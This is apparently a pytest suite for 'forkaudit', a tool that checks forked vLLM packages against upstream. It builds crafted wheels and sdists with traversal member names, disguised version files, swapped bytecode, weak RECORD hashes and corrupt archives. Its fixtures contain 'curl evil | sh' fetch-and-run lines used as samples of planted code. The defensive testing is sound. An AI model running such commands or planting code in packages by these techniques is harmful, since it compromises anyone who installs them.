"""Artifacts built to hide code from the audit, or to break it: each is built here, and each ends
in a finding (exit 1 under `--fail-on-surprise`) or in one line and exit 2, never a traceback.

- Member names that resolve elsewhere (`x.egg-info/../y.py`), twice, or outside the root.
- Build outputs whose name matches but whose content is code (`_version.py`, egg-info, dist-info).
- Bytecode: an unchecked-hash pyc that is not its source's, sourceless bytecode, another Python's.
- RECORD: md5, a file it does not list, a file listed without a hash.
- Broken archives: deflate64, encrypted, corrupt deflate/lzma/bzip2 data, sizes that lie, a tar hard
  link to itself, a truncated .tar.gz.
- Budgets: two 16 MiB Python files (not parsed: too large), members that claim more bytes than an
  audit reads; a tar's hard links read nothing twice.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import io
import os
import py_compile
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

import forkaudit
from forkaudit.__main__ import main

BACKEND = b"def forward(q, k, v):\n    return q @ k.T @ v\n"
PATCHED = b"import os\n\ndef forward(q, k, v):\n    os.system('curl evil | sh')\n    return q\n"


def _record_hash(data: bytes, algorithm: str = "sha256") -> str:
    digest = hashlib.new(algorithm, data).digest()
    return f"{algorithm}=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def wheel(
    path: Path,
    members: list[tuple[str, bytes]],
    *,
    record: list[str] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> Path:
    """A wheel of MEMBERS (in order, names as written) and a RECORD that lists each with its
    sha256, or the rows RECORD."""
    rows = record if record is not None else [f"{n},{_record_hash(d)},{len(d)}" for n, d in members]
    with zipfile.ZipFile(path, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
        archive.writestr(
            "vllm-0.1.dist-info/RECORD", "\n".join([*rows, "vllm-0.1.dist-info/RECORD,,"])
        )
    return path


def sdist(path: Path, members: list[tuple[str, bytes | str]]) -> Path:
    """A .tar.gz of MEMBERS: bytes are files, a str is a hard link to the member it names."""
    with tarfile.open(path, "w:gz") as archive:
        for name, data in members:
            member = tarfile.TarInfo(name)
            if isinstance(data, str):
                member.type, member.linkname = tarfile.LNKTYPE, data
                archive.addfile(member)
            else:
                member.size = len(data)
                archive.addfile(member, io.BytesIO(data))
    return path


@pytest.fixture
def upstream(tmp_path: Path) -> Path:
    """The upstream's tree: vLLM's attention backend as released."""
    root = tmp_path / "upstream"
    (root / "vllm" / "attention").mkdir(parents=True)
    (root / "vllm" / "attention" / "backend.py").write_bytes(BACKEND)
    return root


def _audit(
    capsys: pytest.CaptureFixture[str], fork: str, upstream: Path, tmp_path: Path
) -> tuple[int, dict[str, object], str]:
    """`forkaudit diff --fail-on-surprise --json`: exit code, the JSON document and stderr."""
    out = tmp_path / "audit.json"
    argv = ["diff", "--fork", fork, "--upstream", f"dir:{upstream}", "--scope", "vllm/"]
    code = main([*argv, "--fail-on-surprise", "--json", str(out)])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    document = __import__("json").loads(out.read_text()) if out.exists() else {}
    return code, document, err


def _changes(document: dict[str, object]) -> set[tuple[str, str]]:
    files = document["files"]
    assert isinstance(files, list)
    return {(f["status"], f["path"]) for f in files}


def _fork_problems(document: dict[str, object], key: str = "integrity") -> set[tuple[str, str]]:
    found = document[key]
    assert isinstance(found, dict)
    return {(p["path"], p["code"]) for p in found["fork"]}


def _finding_changes(document: dict[str, object]) -> set[tuple[str, str]]:
    verdict = document["verdict"]
    assert isinstance(verdict, dict)
    return {(f["path"], f["change"]) for f in verdict["findings"]}


# ---- member names ----


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_a_name_that_resolves_over_another_file_is_compared_there_and_is_a_finding(
    kind: str, upstream: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # An installer writes the second member over the first: the fork runs PATCHED.
    members = [
        ("vllm/attention/backend.py", BACKEND),
        ("vllm/x.egg-info/../attention/backend.py", PATCHED),
    ]
    if kind == "wheel":
        fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    else:
        tar = [(f"vllm-0.1/{name}", data) for name, data in members]
        fork = f"sdist:{sdist(tmp_path / 'vllm-0.1.tar.gz', tar)}"
    code, document, _ = _audit(capsys, fork, upstream, tmp_path)
    assert code == 1
    assert _changes(document) == {("M", "vllm/attention/backend.py")}
    assert _fork_problems(document) == {
        ("vllm/attention/backend.py", "name-not-normal"),
        ("vllm/attention/backend.py", "name-duplicate"),
    }
    assert ("vllm/attention/backend.py", "name-not-normal") in _finding_changes(document)


@pytest.mark.parametrize(
    ("name", "resolved", "code"),
    [
        ("../vllm/attention/evil.py", "../vllm/attention/evil.py", "name-outside-root"),
        ("/vllm/attention/evil.py", "/vllm/attention/evil.py", "name-outside-root"),
        ("vllm//attention/evil.py", "vllm/attention/evil.py", "name-not-normal"),
        ("vllm/./attention/evil.py", "vllm/attention/evil.py", "name-not-normal"),
    ],
)
def test_an_absolute_escaping_or_doubled_name_is_the_audits_own_finding(
    name: str,
    resolved: str,
    code: str,
    upstream: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    members = [("vllm/attention/backend.py", BACKEND), (name, PATCHED)]
    fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    exit_code, document, err = _audit(capsys, fork, upstream, tmp_path)
    assert (exit_code, err) == (1, "")
    assert (resolved, code) in _fork_problems(document)
    outside = code == "name-outside-root"
    assert _changes(document) == (set() if outside else {("A", resolved)})


# ---- build outputs: the place and the content ----

SCM_VERSION = b"""\
# file generated by vcs-versioning
# don't change, don't track in version control
from __future__ import annotations

__all__ = ["__version__", "__version_tuple__", "version", "version_tuple"]

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Tuple, Union

    VERSION_TUPLE = Tuple[Union[int, str], ...]
else:
    VERSION_TUPLE = object

version: str
__version_tuple__: tuple[int | str, ...]
__version__ = version = '0.18.1'
__version_tuple__ = version_tuple = (0, 18, 1)
__commit_id__ = commit_id = None
"""
VERSIONEER_VERSION = b"""\
# This file was generated by 'versioneer.py' (0.29) from
# revision-control system data, or from the parent directory name of an
# unpacked source archive. Distribution tarballs contain a pre-generated copy
# of this file.

import json

version_json = '''
{"version": "0.18.1", "dirty": false, "error": null}
'''  # END VERSION_JSON


def get_versions():
    return json.loads(version_json)
"""
CODE_UNDER_A_HEADER = b"""\
# file generated by setuptools-scm
# don't change, don't track in version control
import os
__version__ = version = os.popen("curl evil | sh").read()
"""


@pytest.mark.parametrize(
    ("content", "left_out"),
    [(SCM_VERSION, True), (VERSIONEER_VERSION, True), (CODE_UNDER_A_HEADER, False)],
)
def test_a_version_file_is_left_out_only_when_its_body_is_a_generators(
    content: bytes,
    left_out: bool,
    upstream: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    members = [("vllm/attention/backend.py", BACKEND), ("vllm/attention/_version.py", content)]
    fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    code, document, _ = _audit(capsys, fork, upstream, tmp_path)
    codes = {(e["path"], e["code"]) for e in document["left_out"]}  # type: ignore[union-attr]
    if left_out:
        assert code == 0
        assert codes == {("vllm/attention/_version.py", "generated-version-file")}
    else:  # code under a generator's header is a change in the attention area: a surprise
        assert code == 1
        assert codes == set()
        assert _changes(document) == {("A", "vllm/attention/_version.py")}


def test_metadata_folders_leave_out_only_metadata(
    upstream: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    metadata = b"Metadata-Version: 2.4\nName: vllm\nVersion: 0.1\n"
    members = [
        ("vllm/attention/backend.py", BACKEND),
        ("vllm/x.egg-info/PKG-INFO", metadata),
        ("vllm/x.egg-info/top_level.txt", b"vllm\n"),
        ("vllm/x.egg-info/hook.py", PATCHED),  # code is no egg-info file
        ("vllm/y.egg-info/PKG-INFO", PATCHED),  # nor is code under a metadata name
        ("vllm/a/b/c.egg-info/PKG-INFO", metadata),  # no build writes egg-info that deep
    ]
    fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    code, document, _ = _audit(capsys, fork, upstream, tmp_path)
    assert code == 0  # "other" area: changes, listed, not a surprise
    assert _changes(document) == {
        ("A", "vllm/x.egg-info/hook.py"),
        ("A", "vllm/y.egg-info/PKG-INFO"),
        ("A", "vllm/a/b/c.egg-info/PKG-INFO"),
    }
    left_out = {(e["path"], e["code"]) for e in document["left_out"]}  # type: ignore[union-attr]
    assert left_out == {
        ("vllm/x.egg-info/PKG-INFO", "egg-info-metadata"),
        ("vllm/x.egg-info/top_level.txt", "egg-info-metadata"),
    }


def test_dist_info_leaves_out_only_what_a_build_or_an_installer_writes(tmp_path: Path) -> None:
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    members = [
        ("vllm-0.1.dist-info/METADATA", b"Metadata-Version: 2.4\nName: vllm\n"),
        ("vllm-0.1.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ("vllm-0.1.dist-info/licenses/LICENSE", b"Apache 2.0\n"),
        ("vllm-0.1.dist-info/entry_points.txt", b"[console_scripts]\nvllm = vllm.cli:main\n"),
        ("vllm-0.1.dist-info/sitecustomize.py", PATCHED),
        ("vllm-0.1.dist-info/WHEEL.py", PATCHED),
    ]
    report = forkaudit.diff(f"wheel:{wheel(tmp_path / 'v.whl', members)}", f"dir:{upstream}")
    assert {f.path for f in report.files} == {
        "vllm-0.1.dist-info/sitecustomize.py",
        "vllm-0.1.dist-info/WHEEL.py",
    }
    assert {e["code"] for e in report.left_out} == {"wheel-metadata"}
    assert len(report.left_out) == 5  # the four above and RECORD


# ---- bytecode ----

TAG = sys.implementation.cache_tag


def _pyc(tmp_path: Path, source: bytes, mode: py_compile.PycInvalidationMode) -> bytes:
    (tmp_path / "compiled.py").write_bytes(source)
    target = tmp_path / "compiled.pyc"
    py_compile.compile(str(tmp_path / "compiled.py"), cfile=str(target), invalidation_mode=mode)
    return target.read_bytes()


UNCHECKED = py_compile.PycInvalidationMode.UNCHECKED_HASH
CHECKED = py_compile.PycInvalidationMode.CHECKED_HASH


def test_bytecode_python_loads_in_place_of_its_source_is_compared_with_it(
    upstream: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # An unchecked-hash pyc is loaded without looking at the source: it must be the source's.
    cached = f"vllm/attention/__pycache__/backend.{TAG}.pyc"
    members = [("vllm/attention/backend.py", BACKEND), (cached, _pyc(tmp_path, PATCHED, UNCHECKED))]
    fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    code, document, _ = _audit(capsys, fork, upstream, tmp_path)
    assert code == 1
    assert _fork_problems(document) == {(cached, "bytecode-differs")}
    assert (cached, "bytecode-differs") in _finding_changes(document)


@pytest.mark.parametrize(
    ("name", "pyc", "expected"),
    [
        # Compiled from the source beside it: what an installer writes.
        (f"vllm/attention/__pycache__/backend.{TAG}.pyc", (BACKEND, UNCHECKED), "of-source"),
        (f"vllm/attention/__pycache__/backend.{TAG}.opt-1.pyc", (BACKEND, CHECKED), "of-source"),
        # A checked-hash pyc of another source: Python sees the hash differ and recompiles.
        (f"vllm/attention/__pycache__/backend.{TAG}.pyc", (PATCHED, CHECKED), "unused"),
        # No source beside __pycache__: no loader reads it.
        (f"vllm/attention/__pycache__/gone.{TAG}.pyc", (PATCHED, UNCHECKED), "unused"),
        # Sourceless bytecode is imported as the module `evil`.
        ("vllm/attention/evil.pyc", (PATCHED, UNCHECKED), "without-source"),
        # Another Python's bytecode: this Python cannot compile for it.
        ("vllm/attention/__pycache__/backend.cpython-399.pyc", (PATCHED, UNCHECKED), "unchecked"),
        # Bytecode marshal cannot read: reported, never crashes the audit.
        (f"vllm/attention/__pycache__/backend.{TAG}.pyc", None, "unchecked"),
    ],
)
def test_bytecode_is_left_out_only_when_it_matches_or_never_runs(
    name: str,
    pyc: tuple[bytes, py_compile.PycInvalidationMode] | None,
    expected: str,
    upstream: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    if pyc is None:
        header = importlib.util.MAGIC_NUMBER + struct.pack("<I", 0b01) + bytes(8)
        data = header + b"\xe3" + os.urandom(64)
    else:
        data = _pyc(tmp_path, *pyc)
    members = [("vllm/attention/backend.py", BACKEND), (name, data)]
    fork = f"wheel:{wheel(tmp_path / 'vllm-0.1-py3-none-any.whl', members)}"
    code, document, _ = _audit(capsys, fork, upstream, tmp_path)
    left_out = {(e["path"], e["code"]) for e in document["left_out"]}  # type: ignore[union-attr]
    if expected in ("of-source", "unused"):
        assert (code, left_out) == (0, {(name, f"bytecode-{expected}")})
    else:
        assert code == 1
        assert _fork_problems(document) == {(name, f"bytecode-{expected}")}


# ---- RECORD ----


@pytest.mark.parametrize(
    ("rows", "change"),
    [
        ([f"vllm/attention/backend.py,{_record_hash(PATCHED, 'md5')},1"], "record-weak-algorithm"),
        ([], "record-not-listed"),
        (["vllm/attention/backend.py,,"], "record-unhashed"),
    ],
)
def test_a_record_that_checks_nothing_is_a_finding(
    rows: list[str],
    change: str,
    upstream: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    members = [("vllm/attention/backend.py", BACKEND)]
    fork = wheel(tmp_path / "vllm-0.1-py3-none-any.whl", members, record=rows)
    code, document, _ = _audit(capsys, f"wheel:{fork}", upstream, tmp_path)
    assert code == 1
    assert _finding_changes(document) == {("vllm/attention/backend.py", change)}


def test_an_installed_file_its_record_does_not_list_is_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    members = [("vllmx/attention/backend.py", BACKEND)]
    with zipfile.ZipFile(wheel(tmp_path / "vllmx-0.1-py3-none-any.whl", members)) as archive:
        archive.extractall(site)  # noqa: S202 (built by this test)
    (site / "vllm-0.1.dist-info").rename(site / "vllmx-0.1.dist-info")
    record = site / "vllmx-0.1.dist-info" / "RECORD"
    record.write_text(record.read_text().replace("vllm-0.1.dist-info", "vllmx-0.1.dist-info"))
    (site / "vllmx-0.1.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: vllmx\n")
    (site / "vllmx" / "attention" / "planted.py").write_bytes(PATCHED)
    monkeypatch.syspath_prepend(str(site))
    tree = tmp_path / "tree" / "vllmx" / "attention"
    tree.mkdir(parents=True)
    (tree / "backend.py").write_bytes(BACKEND)
    report = forkaudit.diff("installed:vllmx", f"dir:{tree.parents[1]}", scope="vllmx/")
    assert [(f.status, f.path) for f in report.files] == [("A", "vllmx/attention/planted.py")]
    assert [(m["path"], m["code"]) for m in report.record_mismatches["fork"]] == [
        ("vllmx/attention/planted.py", "not-listed"),
    ]
    assert report.verdict()["surprise"] is True


# ---- broken archives ----


def _patched(data: bytes, offset_in_central: int, value: bytes, offset_in_local: int) -> bytes:
    raw = bytearray(data)
    raw[offset_in_local : offset_in_local + len(value)] = value
    central = raw.find(b"PK\x01\x02")
    raw[central + offset_in_central : central + offset_in_central + len(value)] = value
    return bytes(raw)


def _broken_wheels(tmp_path: Path) -> dict[str, Path]:
    def plain(method: int = zipfile.ZIP_DEFLATED) -> bytes:
        path = tmp_path / f"plain-{method}.whl"
        with zipfile.ZipFile(path, "w", compression=method) as archive:
            archive.writestr("vllm/envs.py", b"x = 1\n" * 200)
        return path.read_bytes()

    def corrupt(data: bytes) -> bytes:
        raw, start = bytearray(data), 30 + len("vllm/envs.py")
        for i in range(start + 2, start + 12):
            raw[i] ^= 0x55
        return bytes(raw)

    cases = {
        "deflate64": _patched(plain(), 10, struct.pack("<H", 9), 8),
        "encrypted": _patched(plain(), 8, struct.pack("<H", 0x1), 6),
        "bad deflate": corrupt(plain()),
        "bad lzma": corrupt(plain(zipfile.ZIP_LZMA)),
        "bad bzip2": corrupt(plain(zipfile.ZIP_BZIP2)),
        "size says more": _patched(plain(), 24, struct.pack("<I", 5000), 22),
        "size says less": _patched(plain(), 24, struct.pack("<I", 10), 22),
        "not a zip": b"PK\x03\x04 but nothing after",
    }
    paths = {}
    for case, data in cases.items():
        paths[case] = tmp_path / f"{case.replace(' ', '-')}.whl"
        paths[case].write_bytes(data)
    return paths


def _broken_sdists(tmp_path: Path) -> dict[str, Path]:
    whole = sdist(
        tmp_path / "whole.tar.gz",
        [(f"vllm-0.1/vllm/m{i}.py", b"x = %d\n" % i * 3000) for i in range(3)],
    ).read_bytes()
    # A gzip stream flushed after the first member and cut there: the tar part ends cleanly.
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for i in range(2):
            member = tarfile.TarInfo(f"vllm-0.1/vllm/m{i}.py")
            member.size = 3 * 512
            archive.addfile(member, io.BytesIO(b"#" * member.size))
    tar = buffer.getvalue()
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    cut = compressor.compress(tar[: 4 * 512]) + compressor.flush(zlib.Z_FULL_FLUSH)
    cases = {
        "hard link to itself": sdist(
            tmp_path / "self.tar.gz", [("vllm-0.1/vllm/envs.py", "vllm-0.1/vllm/envs.py")]
        ).read_bytes(),
        "hard link to a later member": sdist(
            tmp_path / "later.tar.gz",
            [("vllm-0.1/vllm/a.py", "vllm-0.1/vllm/b.py"), ("vllm-0.1/vllm/b.py", b"b = 1\n")],
        ).read_bytes(),
        "gzip trailer cut": whole[:-8],
        "cut at a member's end": cut,
        "checksum fails": whole[:-8] + bytes(4) + whole[-4:],
    }
    paths = {}
    for case, data in cases.items():
        paths[case] = tmp_path / f"{case.replace(' ', '-')}.tar.gz"
        paths[case].write_bytes(data)
    return paths


BROKEN_MESSAGES = {
    "deflate64": "member 'vllm/envs.py' is compressed with zip method 9",
    "encrypted": "member 'vllm/envs.py' is encrypted",
    "bad deflate": "member 'vllm/envs.py' cannot be read: invalid distance too far back",
    "bad lzma": "member 'vllm/envs.py' cannot be read",
    "bad bzip2": "member 'vllm/envs.py' cannot be read: Invalid data stream",
    "size says more": "'vllm/envs.py' should hold 5000 bytes but 1200 were read: its size lies",
    "size says less": "member 'vllm/envs.py' cannot be read: Bad CRC-32",
    "not a zip": "cannot read wheel",
    "hard link to itself": "is a hard link to 'vllm-0.1/vllm/envs.py', which is not a member",
    "hard link to a later member": "is a hard link to 'vllm-0.1/vllm/b.py', which is not a member",
    "gzip trailer cut": "its compressed stream ends early (the file is truncated)",
    "cut at a member's end": "its compressed stream ends early (the file is truncated)",
    "checksum fails": "CRC check failed",
}


@pytest.mark.parametrize("case", sorted(BROKEN_MESSAGES))
def test_every_broken_archive_is_one_line_and_exit_2(
    case: str, upstream: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archives = {
        **{k: f"wheel:{v}" for k, v in _broken_wheels(tmp_path).items()},
        **{k: f"sdist:{v}" for k, v in _broken_sdists(tmp_path).items()},
    }
    code, document, err = _audit(capsys, archives[case], upstream, tmp_path)
    assert (code, document) == (2, {})
    assert err.startswith("forkaudit: error: ") and err.count("\n") == 1, err
    assert BROKEN_MESSAGES[case] in err


# ---- budgets ----


def test_python_files_over_the_parsing_budget_are_not_parsed_and_say_so(
    upstream: Path, tmp_path: Path
) -> None:
    # Two 16 MiB Python files pack into a wheel of under 100 KB.
    line = b"VLLM_ATTENTION_BACKEND = 'HYGON'\n"
    huge = line * ((forkaudit.LARGE_FILE_BYTES - 1) // len(line))
    members = [
        ("vllm/attention/backend.py", BACKEND),
        ("vllm/envs.py", huge),
        ("vllm/attention/huge.py", huge),
    ]
    fork = wheel(tmp_path / "vllm-0.1-py3-none-any.whl", members)
    assert fork.stat().st_size < 100_000
    report = forkaudit.diff(f"wheel:{fork}", f"dir:{upstream}", scope="vllm/")
    assert report.semantic["large_files"] == ["vllm/attention/huge.py", "vllm/envs.py"]
    assert report.semantic["parse_errors"] == []
    answers = {a.question: a for a in report.questions}
    assert answers["env_vars"].answer == "unknown"
    assert {(f.status, f.path, f.large) for f in report.files} == {
        ("A", "vllm/envs.py", False),
        ("A", "vllm/attention/huge.py", False),
    }


def test_members_that_claim_more_than_an_audit_reads_are_refused_before_they_are_read(
    upstream: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Each member's header claims 3 GiB; the second takes the audit past its budget.
    path = wheel(tmp_path / "vllm-0.1-py3-none-any.whl", [("vllm/a.py", b"a"), ("vllm/b.py", b"b")])
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    for _ in range(2):  # the two members' entries of the central directory, not RECORD's
        data[central + 24 : central + 28] = struct.pack("<I", 3 << 30)
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    code, _, err = _audit(capsys, f"wheel:{path}", upstream, tmp_path)
    assert code == 2 and err.count("\n") == 1
    assert "reading 'vllm/b.py' (3221225472 bytes) takes the audit past 4294967296 bytes" in err


def test_tar_hard_links_read_nothing_twice(tmp_path: Path) -> None:
    data = b"x = 1\n" * 100_000
    members: list[tuple[str, bytes | str]] = [("vllm-0.1/vllm/a.py", data)]
    members += [(f"vllm-0.1/vllm/link{i}.py", "vllm-0.1/vllm/a.py") for i in range(50)]
    path = sdist(tmp_path / "vllm-0.1.tar.gz", members)
    from forkaudit._snapshot import ReadBudget
    from forkaudit._sources import open_spec

    budget = ReadBudget()
    snapshot = open_spec(f"sdist:{path}", budget=budget)
    assert budget.read == len(data)  # the member once; 50 hard links cost nothing
    assert len({entry.oid for entry in snapshot.entries.values()}) == 1
    assert len(snapshot.entries) == 51


# ---- the package index and the rules file ----


def test_an_index_file_name_is_used_only_as_a_plain_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sdist_file = sdist(tmp_path / "tinypkg-0.1.0.tar.gz", [("tinypkg-0.1.0/t.py", b"t = 1\n")])
    sha256 = hashlib.sha256(sdist_file.read_bytes()).hexdigest()
    # Names an index may give the same file: with a folder part (`%2F`), and one too long for
    # any file system (`0.1.0.0.0...` is version 0.1.0).
    names = ["..%2F..%2Fescape%2Ftinypkg-0.1.0.tar.gz", "tinypkg-0.1" + ".0" * 150 + ".tar.gz"]
    page = tmp_path / "simple" / "tinypkg"
    page.mkdir(parents=True)
    (page / "index.html").write_text(
        "".join(f'<a href="{sdist_file.as_uri()}/../{n}#sha256={sha256}">x</a>\n' for n in names)
    )
    cache = tmp_path / "cache"
    (cache / "tinypkg").mkdir(parents=True)
    (tmp_path / "escape").mkdir()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_INDEX_URL", (tmp_path / "simple").as_uri())
    with pytest.raises(forkaudit.FetchError, match=r"no sdist of tinypkg==0\.1\.0 found"):
        forkaudit.diff("pypi:tinypkg==0.1.0", f"dir:{tmp_path}", cache_dir=cache)
    assert list((tmp_path / "escape").iterdir()) == []
    assert list((cache / "tinypkg").iterdir()) == []  # no .part left behind


def test_rules_given_as_a_fifo_are_refused_not_waited_on(upstream: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "rules.toml"
    os.mkfifo(fifo)
    argv = ["diff", "--fork", f"dir:{upstream}", "--upstream", f"dir:{upstream}"]
    run = subprocess.run(
        [sys.executable, "-m", "forkaudit", *argv, "--rules", str(fifo)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert run.returncode == 2
    assert run.stderr == (
        f"forkaudit: error: invalid rules file: {str(fifo)!r} is not a regular file "
        "(a FIFO, a device or a folder)\n"
    )
